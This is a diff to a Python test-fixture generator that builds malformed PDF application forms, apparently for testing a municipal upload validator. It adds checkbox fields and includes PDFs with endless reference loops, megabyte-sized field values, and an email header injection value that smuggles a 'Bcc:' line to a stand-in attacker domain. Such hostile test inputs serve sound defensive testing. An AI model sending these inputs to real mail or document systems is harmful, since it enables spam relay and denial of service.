@@ -177,8 +177,18 @@ def text_pdf(text: bytes) -> bytes:
     return pdf.build(catalog)
 
 
-def form_pdf(values: dict[str, str], *, loop: str = "") -> bytes:
-    """A one-page AcroForm with text fields holding ``values`` (UTF-16 literals).
+def _field(name: str, value: str | bool) -> bytes:
+    """A field's type, name and value: a text field, or a checkbox for a boolean."""
+    if isinstance(value, bool):
+        state = b"/Yes" if value else b"/Off"
+        return b"/FT /Btn /T %s /V %s /AS %s" % (pdf_literal(name, utf16=False), state, state)
+    return b"/FT /Tx /T %s /V %s" % (pdf_literal(name, utf16=False),
+                                     pdf_literal(value, utf16=True))
+
+
+def form_pdf(values: dict[str, str | bool], *, loop: str = "") -> bytes:
+    """A one-page AcroForm: text fields holding ``values`` (UTF-16 literals), checkboxes for
+    the boolean ones.
 
     ``loop``: ``kids`` (the page tree's root lists itself as a kid), ``parent`` (the page's
     /Parent chain runs in a circle), ``field`` (a field is its own kid), ``xobject`` (a form
@@ -188,9 +198,8 @@ def form_pdf(values: dict[str, str], *, loop: str = "") -> bytes:
     fields = []
     for index, (name, value) in enumerate(values.items()):
         rect = b"[56 %d 500 %d]" % (780 - 20 * index, 795 - 20 * index)
-        fields.append(pdf.add(b"<< /FT /Tx /T %s /V %s /Subtype /Widget /Type /Annot /Rect %s "
-                              b"/P %d 0 R >>" % (pdf_literal(name, utf16=False),
-                                                 pdf_literal(value, utf16=True), rect, page)))
+        fields.append(pdf.add(b"<< %s /Subtype /Widget /Type /Annot /Rect %s /P %d 0 R >>"
+                              % (_field(name, value), rect, page)))
     resources = b"<< /Font << /F1 %s >> >>" % _font()
     content = pdf.stream(b"BT /F1 10 Tf 56 820 Td (Bewerbungsbogen) Tj ET")
     if loop == "xobject":
@@ -219,7 +228,7 @@ def form_pdf(values: dict[str, str], *, loop: str = "") -> bytes:
     return pdf.build(catalog)
 
 
-def xref_loop_pdf(values: dict[str, str]) -> bytes:
+def xref_loop_pdf(values: dict[str, str | bool]) -> bytes:
     """A form whose last xref section names itself as /Prev, and an incremental update whose
     /Prev points back at that update: a reader that follows /Prev never stops."""
     base = form_pdf(values)
@@ -233,7 +242,7 @@ def xref_loop_pdf(values: dict[str, str]) -> bytes:
     return looped + update
 
 
-def object_stream_loop_pdf(values: dict[str, str]) -> bytes:
+def object_stream_loop_pdf(values: dict[str, str | bool]) -> bytes:
     """A form whose fields lie in an object stream that /Extends itself, indexed by an xref
     stream (PDF 1.5) that is its own /Prev."""
     header = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
@@ -251,8 +260,7 @@ def object_stream_loop_pdf(values: dict[str, str]) -> bytes:
     put(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
     put(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [%s] >>"
         % b" ".join(b"%d 0 R" % n for n in field_numbers))
-    objects = [b"<< /FT /Tx /T %s /V %s /Subtype /Widget /Rect [0 0 1 1] >>"
-               % (pdf_literal(name, utf16=False), pdf_literal(values[name], utf16=True))
+    objects = [b"<< %s /Subtype /Widget /Rect [0 0 1 1] >>" % _field(name, values[name])
                for name in names]
     index, offset = [], 0
     for number, text in zip(field_numbers, objects, strict=True):
@@ -347,21 +355,22 @@ def _unique(data: bytes, tag: str) -> bytes:
 
 
 def _huge_values(rng: random.Random, apps: Applications) -> list[FileCase]:
-    base = {key: str(value) for key, value in apps.values().items()
-            if not isinstance(value, bool)}
+    base = apps.values()
     megabyte = "".join(rng.choice("abcdefghij ") for _ in range(1 << 20))
     return [
         FileCase("kommune-name-5000-chars", b"Bewerbung-lang.pdf",
-                 form_pdf({**base, "kommune_name": "Gemeinde " + "X" * 5000}), "invalid"),
+                 form_pdf({**base, "kommune_name": "Gemeinde " + "X" * 5000}), None),
         FileCase("motivation-1mb", b"Bewerbung-1mb.pdf",
                  form_pdf({**apps_values_str(apps), "motivation": megabyte}), None),
         FileCase("every-field-1mb", b"Bewerbung-alles-1mb.pdf",
-                 form_pdf({key: megabyte for key in list(base)[:6]}), "invalid"),
+                 form_pdf({**base, **{key: megabyte for key in ("kommune_name", "ags", "plz",
+                                                                "ort", "strasse", "hvb_name")}}),
+                 "invalid"),
         FileCase("kommune-name-100k-spaces", b"Bewerbung-leer.pdf",
                  form_pdf({**base, "kommune_name": " " * 100_000}), "invalid"),
         FileCase("field-control-chars", b"Bewerbung-steuer.pdf",
                  form_pdf({**base, "kommune_name": "".join(chr(c) for c in range(32)) * 2000}),
-                 "invalid"),
+                 None),
         FileCase("team-email-header-injection", b"Bewerbung-bcc.pdf",
                  form_pdf({**apps_values_str(apps), "team1_email":
                            f"kontakt@example.org\r\nBcc: spion@{ATTACKER_DOMAIN}",
@@ -369,11 +378,9 @@ def _huge_values(rng: random.Random, apps: Applications) -> list[FileCase]:
     ]
 
 
-def apps_values_str(apps: Applications) -> dict[str, str]:
-    """A valid application's text fields (the checkboxes as the hand-built form cannot tick
-    them: such a form is complete in its text only)."""
-    return {key: str(value) for key, value in apps.values().items()
-            if not isinstance(value, bool)}
+def apps_values_str(apps: Applications) -> dict[str, str | bool]:
+    """A valid application's values, for ``form_pdf``."""
+    return apps.values()
 
 
 def _text_floods() -> list[FileCase]:
